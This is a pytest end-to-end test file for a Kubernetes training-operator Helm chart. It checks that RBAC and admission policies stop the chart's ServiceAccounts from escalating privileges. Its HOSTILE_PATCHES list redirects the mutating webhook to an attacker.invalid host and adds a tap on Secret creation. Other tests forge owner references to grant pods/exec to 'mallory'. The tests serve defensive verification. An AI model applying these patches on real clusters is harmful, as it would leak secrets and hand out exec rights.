"""What each of the chart's ServiceAccounts may do, by impersonating it on a real apiserver.

A control plane of its own with the default Helm install (self-managed webhook certificate). Each
request is the real one (`kubectl --as=system:serviceaccount:...`), so RBAC and the admission policies
(docs/security.md#admission-policies) decide it exactly as they would for the server's own token; no
server runs, which leaves the objects under test as the install wrote them.
"""

from __future__ import annotations

import base64
import functools
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

import pytest
from chart import Release, packaged_chart
from controlplane import ControlPlane, default_bin_dir
from trainop_stack import job, replica

from trainop import kubeclient
from trainop.install import policies

pytestmark = pytest.mark.e2e

RELEASE, NAMESPACE = "trainop", "trainop-system"
WEBHOOKS = f"system:serviceaccount:{NAMESPACE}:{RELEASE}-webhooks"
HOOKS = f"system:serviceaccount:{NAMESPACE}:{RELEASE}-hooks"
METACONTROLLER = f"system:serviceaccount:{NAMESPACE}:{RELEASE}-metacontroller"
SECRET = f"{RELEASE}-webhook-cert"
TENANT = "tenant"
ONLY_CA_BUNDLE = policies.WEBHOOK_CONFIGURATION_VALIDATIONS[2]["message"]
ONLY_OWN_CONFIGURATIONS = policies.WEBHOOK_CONFIGURATION_VALIDATIONS[0]["message"]
ONLY_JOB_EVENTS = policies.HOOKS_EVENT_VALIDATIONS[0]["message"]
ONLY_AGGREGATE = policies.HOOKS_EVENT_VALIDATIONS[1]["message"]
ONLY_FINISHED_WITH_TTL = policies.HOOKS_JOB_DELETION_VALIDATIONS[0]["message"]
ONLY_LAUNCHER_RBAC = "Metacontroller may write a Role or RoleBinding only as an MPIJob's launcher RBAC"
ONLY_LAUNCHER_RULES = policies.LAUNCHER_ROLE_VALIDATIONS[1]["message"]
ONLY_LAUNCHER_SUBJECT = policies.LAUNCHER_ROLE_BINDING_VALIDATIONS[1]["message"]
# Someone Metacontroller's token would hand exec rights to.
MALLORY = "mallory"
# What the issue's attacker patched into the mutating configuration, one change at a time.
HOSTILE_PATCHES = {
    "failurePolicy Ignore": [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}],
    "a rule for secrets and pods": [
        {
            "op": "add",
            "path": "/webhooks/0/rules/-",
            "value": {
                "apiGroups": [""],
                "apiVersions": ["v1"],
                "operations": ["CREATE", "UPDATE"],
                "resources": ["secrets", "pods"],
            },
        }
    ],
    "namespaceSelector {}": [{"op": "replace", "path": "/webhooks/0/namespaceSelector", "value": {}}],
    "another service": [
        {"op": "replace", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.invalid/mutate"}
    ],
    "a second webhook": [
        {
            "op": "add",
            "path": "/webhooks/-",
            "value": {
                "name": "tap.example.com",
                "admissionReviewVersions": ["v1"],
                "sideEffects": "None",
                "clientConfig": {"url": "https://attacker.invalid/tap"},
                "rules": [
                    {
                        "apiGroups": [""],
                        "apiVersions": ["v1"],
                        "operations": ["CREATE"],
                        "resources": ["secrets"],
                    }
                ],
            },
        }
    ],
}


@pytest.fixture(scope="module")
def cluster(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ControlPlane]:
    cp = ControlPlane(default_bin_dir(), tmp_path_factory.mktemp("rbac-cp"))
    try:
        cp.start()
        cp.create_namespace(TENANT)
        yield cp
    finally:
        cp.stop()


@pytest.fixture(scope="module")
def release(cluster: ControlPlane, tmp_path_factory: pytest.TempPathFactory) -> Release:
    """The default install, once the apiserver enforces its admission policies (a moment after helm)."""
    rel = Release(cluster, packaged_chart(tmp_path_factory.mktemp("chart")), RELEASE, NAMESPACE)
    # No webhook server runs: jobs of the tenant namespace go in unadmitted, as the tests need them.
    rel.install([f"webhooks.excludedNamespaces={{{TENANT}}}"])
    patch = json.dumps(HOSTILE_PATCHES["failurePolicy Ignore"])
    probes = {
        ONLY_CA_BUNDLE: (
            WEBHOOKS,
            "patch",
            "mutatingwebhookconfiguration",
            f"{RELEASE}-mutate",
            "--type=json",
            "-p",
            patch,
        ),
        "webhook certificate Secret": ("admin", "create", "secret", "generic", SECRET, "-n", NAMESPACE),
        ONLY_JOB_EVENTS: (HOOKS, "create", "-f", "-"),
        ONLY_LAUNCHER_RBAC: (
            METACONTROLLER,
            "create",
            "role",
            "probe",
            "-n",
            TENANT,
            "--verb=get",
            "--resource=pods",
        ),
    }
    pod_event = event("probe", {"apiVersion": "v1", "kind": "Pod", "name": "p"}, "tfjob-controller")

    def enforced(message: str, user: str, *args: str) -> bool:
        who = () if user == "admin" else (f"--as={user}",)
        body = json.dumps(pod_event) if "-f" in args else None
        res = rel.kubectl(*who, *args, "--dry-run=server", input=body, check=False)
        return res.returncode != 0 and message in res.stderr

    for message, (user, *args) in probes.items():
        check = functools.partial(enforced, message, user, *args)
        cluster.wait_until(f"policy in force: {message}", check, timeout=30)
    return rel


@pytest.fixture(scope="module")
def metacontroller(release: Release) -> str:
    account = release.service_account("statefulset", release.metacontroller_statefulset())
    return f"system:serviceaccount:{NAMESPACE}:{account}"


@pytest.fixture(scope="module")
def hooks_client(release: Release) -> kubeclient.KubeClient:
    """The hooks' own token: `kubectl patch` would GET first, which the hooks may not (they patch blind)."""
    return kubeclient.from_kubeconfig(release.token_kubeconfig(f"{RELEASE}-hooks"))


def patch_event(client: kubeclient.KubeClient, name: str, patch: dict[str, Any]) -> tuple[bool, str]:
    path = f"/api/v1/namespaces/{TENANT}/events/{name}"
    try:
        client.request("PATCH", path, patch, content_type="application/merge-patch+json")
    except kubeclient.ApiError as exc:
        return False, str(exc)
    return True, ""


def as_user(rel: Release, user: str, *args: str, body: Any = None) -> tuple[bool, str]:
    """kubectl as `user`: (succeeded, its output)."""
    stdin = None if body is None else json.dumps(body)
    res = rel.kubectl(f"--as={user}", *args, input=stdin, check=False)
    return res.returncode == 0, res.stdout + res.stderr


def can_i(rel: Release, user: str, *args: str) -> bool:
    res = rel.kubectl("auth", "can-i", *args, f"--as={user}", check=False)
    return res.stdout.strip() == "yes"


def event(name: str, involved: dict[str, str], component: str) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"name": name, "namespace": TENANT},
        "involvedObject": {"namespace": TENANT, **involved},
        "reason": "Created",
        "message": "Created pod: x-worker-0",
        "type": "Normal",
        "source": {"component": component},
    }


TFJOB = {"apiVersion": "kubeflow.org/v1", "kind": "TFJob", "name": "x", "uid": "0b7c"}


# ---------------------------------------------------------------------- the webhook ServiceAccount
@pytest.mark.parametrize("change", sorted(HOSTILE_PATCHES))
def test_the_webhook_account_cannot_rewrite_its_mutating_configuration(release: Release, change: str) -> None:
    patch = json.dumps(HOSTILE_PATCHES[change])
    before = release.cp.get_json(f"mutatingwebhookconfiguration/{RELEASE}-mutate")["webhooks"]
    ok, out = as_user(
        release,
        WEBHOOKS,
        "patch",
        "mutatingwebhookconfiguration",
        f"{RELEASE}-mutate",
        "--type=json",
        "-p",
        patch,
    )
    assert not ok and ONLY_CA_BUNDLE in out, out
    assert release.cp.get_json(f"mutatingwebhookconfiguration/{RELEASE}-mutate")["webhooks"] == before


def test_the_webhook_account_may_write_ca_bundle_of_both_configurations(release: Release) -> None:
    bundle = base64.b64encode((release.cp.pki / "ca.crt").read_bytes()).decode()
    patch = json.dumps([{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": bundle}])
    for kind, name in (
        ("mutatingwebhookconfiguration", f"{RELEASE}-mutate"),
        ("validatingwebhookconfiguration", f"{RELEASE}-validate"),
    ):
        ok, out = as_user(release, WEBHOOKS, "patch", kind, name, "--type=json", "-p", patch)
        assert ok, out
        assert release.cp.get_json(f"{kind}/{name}")["webhooks"][0]["clientConfig"]["caBundle"] == bundle


def test_the_webhook_account_cannot_create_or_delete_a_webhook_configuration(release: Release) -> None:
    assert not can_i(release, WEBHOOKS, "create", "mutatingwebhookconfigurations")
    assert not can_i(release, WEBHOOKS, "delete", f"validatingwebhookconfiguration/{RELEASE}-validate")
    ok, out = as_user(
        release,
        WEBHOOKS,
        "delete",
        "validatingwebhookconfiguration",
        f"{RELEASE}-validate",
        "--dry-run=server",
    )
    assert not ok and "forbidden" in out.lower(), out


def test_a_cluster_admin_cannot_plant_the_webhook_certificate_secret(release: Release) -> None:
    res = release.kubectl(
        "create", "secret", "generic", SECRET, "-n", NAMESPACE, "--from-literal=ca.crt=x", check=False
    )
    assert res.returncode != 0, res.stdout
    assert f"may create or update the webhook certificate Secret {SECRET}" in res.stderr, res.stderr
    assert "delete the Secret to have the webhook server issue a new one" in res.stderr


def test_only_the_webhook_account_writes_the_certificate_secret_and_anyone_allowed_may_delete_it(
    release: Release,
) -> None:
    ok, out = as_user(
        release, WEBHOOKS, "create", "secret", "generic", SECRET, "-n", NAMESPACE, "--from-literal=x=y"
    )
    assert ok, out
    res = release.kubectl("label", "secret", SECRET, "-n", NAMESPACE, "planted=true", check=False)
    assert res.returncode != 0 and "may create or update the webhook certificate Secret" in res.stderr
    stored = release.cp.get_json(f"secret/{SECRET}", "-n", NAMESPACE)
    stored["metadata"].setdefault("labels", {})["renewed"] = "true"
    ok, out = as_user(release, WEBHOOKS, "replace", "-f", "-", body=stored)
    assert ok, out
    release.kubectl("delete", "secret", SECRET, "-n", NAMESPACE)


def test_the_secret_policy_holds_only_the_certificate_secret(release: Release) -> None:
    res = release.kubectl("create", "secret", "generic", "unrelated", "-n", NAMESPACE, "--from-literal=x=y")
    assert res.returncode == 0


def test_the_webhook_account_reads_no_other_secret(release: Release) -> None:
    assert can_i(release, WEBHOOKS, "get", f"secret/{SECRET}", "-n", NAMESPACE)
    assert not can_i(release, WEBHOOKS, "get", "secret/unrelated", "-n", NAMESPACE)
    assert not can_i(release, WEBHOOKS, "list", "secrets", "-n", NAMESPACE)


# ---------------------------------------------------------------------- the hooks ServiceAccount
def test_the_hooks_may_record_an_event_on_a_job_as_its_controller(release: Release) -> None:
    ok, out = as_user(release, HOOKS, "create", "-f", "-", body=event("ours", TFJOB, "tfjob-controller"))
    assert ok, out


def test_the_hooks_cannot_create_an_event_about_a_pod(release: Release) -> None:
    pod = {"apiVersion": "v1", "kind": "Pod", "name": "x-worker-0", "uid": "77aa"}
    ok, out = as_user(release, HOOKS, "create", "-f", "-", body=event("about-pod", pod, "tfjob-controller"))
    assert not ok and ONLY_JOB_EVENTS in out, out


def test_the_hooks_cannot_write_an_event_as_another_controller(release: Release) -> None:
    ok, out = as_user(release, HOOKS, "create", "-f", "-", body=event("as-kueue", TFJOB, "kueue-admission"))
    assert not ok and ONLY_JOB_EVENTS in out, out


def test_the_hooks_cannot_patch_an_event_of_another_operator(
    release: Release, hooks_client: kubeclient.KubeClient
) -> None:
    release.kubectl("create", "-f", "-", input=json.dumps(event("theirs", TFJOB, "kueue-admission")))
    for patch in ({"count": 7}, {"message": "rewritten", "source": {"component": "tfjob-controller"}}):
        ok, out = patch_event(hooks_client, "theirs", patch)
        assert not ok and "denied request" in out, (patch, out)
    stored = release.cp.get_json("event/theirs", "-n", TENANT)
    assert (stored.get("count"), stored["message"]) == (None, "Created pod: x-worker-0")


def test_the_hooks_may_aggregate_their_own_event_but_not_reword_it(
    release: Release, hooks_client: kubeclient.KubeClient
) -> None:
    release.kubectl("create", "-f", "-", input=json.dumps(event("repeated", TFJOB, "tfjob-controller")))
    ok, out = patch_event(
        hooks_client, "repeated", {"count": 2, "metadata": {"annotations": {"trainop/occurrence": "2"}}}
    )
    assert ok, out
    ok, out = patch_event(hooks_client, "repeated", {"message": "attacker's text"})
    assert not ok and ONLY_AGGREGATE in out, out
    assert release.cp.get_json("event/repeated", "-n", TENANT)["count"] == 2


def test_the_hooks_read_jobs_and_nothing_else(release: Release) -> None:
    # Jobs only: Metacontroller sends the hooks every job in full anyway; list reads one at a past revision.
    assert can_i(release, HOOKS, "get", "tfjobs", "-n", TENANT)
    assert can_i(release, HOOKS, "list", "tfjobs", "-A")
    assert not can_i(release, HOOKS, "watch", "tfjobs", "-A")
    assert not can_i(release, HOOKS, "list", "events", "-A")
    assert not can_i(release, HOOKS, "list", "pods", "-A")
    assert not can_i(release, HOOKS, "get", "secrets", "-n", NAMESPACE)
    assert not can_i(release, HOOKS, "create", "events.events.k8s.io", "-n", TENANT)


def test_the_hooks_read_a_job_as_it_was_at_a_past_revision(release: Release) -> None:
    tfjob(release, "was-suspended", finished=False, ttl=False)
    patch = json.dumps({"spec": {"runPolicy": {"suspend": True}}})
    release.kubectl("patch", "tfjob", "was-suspended", "-n", TENANT, "--type=merge", "-p", patch)
    then = json.loads(release.kubectl("get", "tfjob", "was-suspended", "-n", TENANT, "-o", "json").stdout)
    resume = json.dumps({"spec": {"runPolicy": {"suspend": False}}})
    release.kubectl("patch", "tfjob", "was-suspended", "-n", TENANT, "--type=merge", "-p", resume)
    query = urllib.parse.urlencode({
        "fieldSelector": "metadata.name=was-suspended",
        "resourceVersion": then["metadata"]["resourceVersion"],
        "resourceVersionMatch": "Exact",
    })  # fmt: skip
    ok, out = as_user(
        release, HOOKS, "get", "--raw", f"/apis/kubeflow.org/v1/namespaces/{TENANT}/tfjobs?{query}"
    )
    assert ok, out
    [item] = json.loads(out)["items"]
    assert item["spec"]["runPolicy"]["suspend"] is True


def tfjob(rel: Release, name: str, finished: bool, ttl: bool) -> None:
    """A TFJob in the tenant namespace, Succeeded (status written as its controller would) or running."""
    run_policy = {"ttlSecondsAfterFinished": 60} if ttl else None
    body = job("TFJob", name, {"Worker": replica("TFJob")}, run_policy=run_policy)
    rel.kubectl("create", "-n", TENANT, "-f", "-", input=json.dumps(body))
    if finished:
        done = {"type": "Succeeded", "status": "True", "reason": "TFJobSucceeded", "message": "done"}
        status = json.dumps({"status": {"conditions": [done], "replicaStatuses": {}}})
        rel.kubectl(
            "patch", "tfjob", name, "-n", TENANT, "--subresource=status", "--type=merge", "-p", status
        )


def hooks_delete(rel: Release, name: str) -> tuple[bool, str]:
    return as_user(rel, HOOKS, "delete", "tfjob", name, "-n", TENANT, "--dry-run=server", "--wait=false")


def test_the_hooks_may_delete_a_finished_job_past_its_ttl(release: Release) -> None:
    tfjob(release, "finished-ttl", finished=True, ttl=True)
    ok, out = hooks_delete(release, "finished-ttl")
    assert ok, out


def test_the_hooks_cannot_delete_a_running_job(release: Release) -> None:
    tfjob(release, "running-ttl", finished=False, ttl=True)
    ok, out = hooks_delete(release, "running-ttl")
    assert not ok and ONLY_FINISHED_WITH_TTL in out, out


def test_the_hooks_cannot_delete_a_finished_job_without_a_ttl(release: Release) -> None:
    tfjob(release, "finished-kept", finished=True, ttl=False)
    ok, out = hooks_delete(release, "finished-kept")
    assert not ok and ONLY_FINISHED_WITH_TTL in out, out


# ---------------------------------------------------------------------- Metacontroller
def test_metacontroller_cannot_read_secrets_or_namespaces(release: Release, metacontroller: str) -> None:
    for args in (("list", "secrets", "-A"), ("get", "secrets", "-n", "kube-system"), ("list", "namespaces")):
        assert not can_i(release, metacontroller, *args), args
    ok, out = as_user(release, metacontroller, "get", "secrets", "-n", "kube-system")
    assert not ok and "forbidden" in out.lower(), out


def test_metacontroller_cannot_grant_secrets_in_a_role(release: Release, metacontroller: str) -> None:
    ok, out = as_user(
        release,
        metacontroller,
        "create",
        "role",
        "tap",
        "-n",
        "kube-system",
        "--verb=list",
        "--resource=secrets",
    )
    assert not ok and "attempting to grant RBAC permissions not currently held" in out, out


def mpijob_owner(rel: Release, name: str) -> dict[str, Any]:
    """A controller reference to a real MPIJob `name` of the tenant namespace, as Metacontroller sets it."""
    body = job("MPIJob", name, {"Launcher": replica("MPIJob"), "Worker": replica("MPIJob", 2)})
    rel.kubectl("create", "-n", TENANT, "-f", "-", input=json.dumps(body))
    stored = rel.cp.get_json(f"mpijob/{name}", "-n", TENANT)
    return {
        "apiVersion": "kubeflow.org/v1",
        "kind": "MPIJob",
        "name": name,
        "uid": stored["metadata"]["uid"],
        "controller": True,
        "blockOwnerDeletion": True,
    }


FORGED_OWNER = {
    "apiVersion": "kubeflow.org/v1",
    "kind": "MPIJob",
    "name": "tap",
    "uid": "5e1f",
    "controller": True,
}
PODS_READ = {"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list", "watch"]}


def exec_into(*pods: str) -> dict[str, Any]:
    rule: dict[str, Any] = {"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}
    return {**rule, "resourceNames": list(pods)} if pods else rule


def role(
    name: str, namespace: str, owner: dict[str, Any] | None, rules: list[dict[str, Any]]
) -> dict[str, Any]:
    meta: dict[str, Any] = {"name": name, "namespace": namespace}
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {**meta, **({"ownerReferences": [owner]} if owner else {})},
        "rules": rules,
    }


def role_binding(
    name: str, namespace: str, owner: dict[str, Any] | None, subject: dict[str, Any]
) -> dict[str, Any]:
    meta: dict[str, Any] = {"name": name, "namespace": namespace}
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {**meta, **({"ownerReferences": [owner]} if owner else {})},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
        "subjects": [subject],
    }


def service_account(name: str, namespace: str) -> dict[str, Any]:
    return {"kind": "ServiceAccount", "name": name, "namespace": namespace}


USER_MALLORY = {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": MALLORY}


def test_the_chart_holds_the_service_account_its_metacontroller_runs_as(metacontroller: str) -> None:
    assert metacontroller == METACONTROLLER


def test_metacontroller_may_still_create_every_child_kind(release: Release, metacontroller: str) -> None:
    for resource in ("pods", "services", "configmaps", "serviceaccounts", "roles", "rolebindings"):
        assert can_i(release, metacontroller, "create", resource, "-n", TENANT), resource


def test_metacontroller_may_write_an_mpijobs_launcher_role_and_binding(
    release: Release, metacontroller: str
) -> None:
    owner = mpijob_owner(release, "pi")
    rules = [PODS_READ, exec_into("pi-worker-0", "pi-worker-1")]
    for body in (
        role("pi-launcher", TENANT, owner, [PODS_READ]),
        role_binding("pi-launcher", TENANT, owner, service_account("pi-launcher", TENANT)),
    ):
        ok, out = as_user(release, metacontroller, "create", "-f", "-", body=body)
        assert ok, out
    stored = release.cp.get_json("role/pi-launcher", "-n", TENANT)
    ok, out = as_user(release, metacontroller, "replace", "-f", "-", body={**stored, "rules": rules})
    assert ok, out
    launcher = f"system:serviceaccount:{TENANT}:pi-launcher"
    assert can_i(release, launcher, "create", "pods/pi-worker-1", "--subresource=exec", "-n", TENANT)


@pytest.mark.parametrize("namespace", [TENANT, "kube-system"])
def test_metacontroller_cannot_write_a_role_granting_pods_exec(
    release: Release, metacontroller: str, namespace: str
) -> None:
    ok, out = as_user(
        release, metacontroller, "create", "-f", "-", body=role("tap", namespace, None, [exec_into()])
    )
    assert not ok and ONLY_LAUNCHER_RBAC in out, out
    stored = release.kubectl("get", "role", "tap", "-n", namespace, "--ignore-not-found", "-o", "name")
    assert stored.stdout.strip() == ""


@pytest.mark.parametrize("namespace", [TENANT, "kube-system"])
def test_metacontroller_cannot_widen_a_launcher_role_it_names_after_an_mpijob(
    release: Release, metacontroller: str, namespace: str
) -> None:
    for rules in ([PODS_READ, exec_into()], [PODS_READ, exec_into("coredns-0")], [exec_into("tap-worker-0")]):
        body = role("tap-launcher", namespace, FORGED_OWNER, rules)
        ok, out = as_user(release, metacontroller, "create", "-f", "-", body=body)
        assert not ok and ONLY_LAUNCHER_RULES in out, (rules, out)


@pytest.mark.parametrize("namespace", [TENANT, "kube-system"])
def test_metacontroller_cannot_bind_a_role_to_another_user(
    release: Release, metacontroller: str, namespace: str
) -> None:
    """A Role granting exec exists (someone's); Metacontroller holds what it grants, so RBAC lets it bind."""
    exec_role = f"exec-{namespace}"
    release.kubectl("create", "role", exec_role, "-n", namespace, "--verb=create", "--resource=pods/exec")
    ok, out = as_user(
        release,
        metacontroller,
        "create",
        "rolebinding",
        "tap",
        "-n",
        namespace,
        f"--role={exec_role}",
        f"--user={MALLORY}",
    )
    assert not ok and ONLY_LAUNCHER_RBAC in out, out
    release.kubectl(
        "create", "role", "tap-launcher", "-n", namespace, "--verb=create", "--resource=pods/exec"
    )
    for subject in (USER_MALLORY, service_account("tap-launcher", "kube-public")):
        body = role_binding("tap-launcher", namespace, FORGED_OWNER, subject)
        ok, out = as_user(release, metacontroller, "create", "-f", "-", body=body)
        assert not ok and ONLY_LAUNCHER_SUBJECT in out, (subject, out)
    assert not can_i(release, MALLORY, "create", "pods/exec", "-n", namespace)


def test_metacontroller_cannot_rewrite_a_launcher_binding_to_another_user(
    release: Release, metacontroller: str
) -> None:
    owner = mpijob_owner(release, "rebind")
    for body in (
        role("rebind-launcher", TENANT, owner, [PODS_READ]),
        role_binding("rebind-launcher", TENANT, owner, service_account("rebind-launcher", TENANT)),
    ):
        ok, out = as_user(release, metacontroller, "create", "-f", "-", body=body)
        assert ok, out
    stored = release.cp.get_json("rolebinding/rebind-launcher", "-n", TENANT)
    ok, out = as_user(
        release, metacontroller, "replace", "-f", "-", body={**stored, "subjects": [USER_MALLORY]}
    )
    assert not ok and ONLY_LAUNCHER_SUBJECT in out, out
    assert release.cp.get_json("rolebinding/rebind-launcher", "-n", TENANT)["subjects"] == stored["subjects"]


def test_the_release_installs_its_six_policies(release: Release) -> None:
    names = release.kubectl(
        "get", "validatingadmissionpolicies", "-l", f"app.kubernetes.io/instance={RELEASE}", "-o", "name"
    ).stdout.split()
    assert sorted(names) == sorted(
        f"validatingadmissionpolicy.admissionregistration.k8s.io/{RELEASE}-{n}"
        for n in (
            "webhooks-ca-bundle-only",
            "webhook-cert-writer",
            "hooks-events",
            "hooks-job-deletion",
            "metacontroller-launcher-roles",
            "metacontroller-launcher-rolebindings",
        )
    )
